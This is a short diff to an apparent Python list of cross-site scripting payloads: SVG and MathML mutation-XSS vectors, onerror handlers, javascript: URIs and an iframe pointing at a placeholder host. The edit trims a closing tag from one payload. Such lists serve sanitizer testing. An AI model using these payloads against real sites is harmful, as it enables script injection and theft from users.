@@ -39,7 +39,7 @@ _HTML = [
     f"<svg><style><img src=x onerror={RUN}></style></svg>",
     f"<svg><foreignObject><iframe src=//{HOST}></iframe></foreignObject></svg>",
     f"<svg><set attributeName=onmouseover to={RUN}>",
-    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table>",
     f"<math href='javascript:{RUN}'>x</math>",
     f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
     f"<iframe src=javascript:{RUN}></iframe>",
